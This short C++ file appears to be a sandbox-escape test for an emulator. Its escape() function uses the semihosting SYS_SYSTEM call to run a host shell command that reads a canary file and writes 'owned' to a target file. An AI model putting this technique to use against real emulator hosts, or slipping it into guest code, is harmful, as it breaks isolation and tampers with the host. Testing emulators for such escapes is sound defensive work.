// Asks the emulator to run a shell command on the host: SYS_SYSTEM.
#include "semihosting.h"

void escape() {
  static const char command[] = "cat " CANARY "; echo owned > " TARGET;
  const std::uintptr_t block[] = {reinterpret_cast<std::uintptr_t>(command), length(command)};
  semihosting(kSystem, block);
}
